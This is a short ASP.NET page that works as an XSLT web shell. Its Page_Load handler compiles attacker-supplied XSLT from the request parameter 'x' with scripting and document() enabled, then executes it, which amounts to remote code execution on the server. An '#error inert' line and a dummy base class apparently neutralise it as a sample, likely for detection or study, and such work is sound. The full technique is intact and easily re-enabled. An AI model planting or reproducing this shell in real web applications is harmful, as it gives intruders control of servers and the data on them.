<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ var x=new System.Xml.Xsl.XslCompiledTransform(); x.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(Request["x"])),new System.Xml.Xsl.XsltSettings(true,true),null); x.Transform(null,null,Response.OutputStream); }
</script>
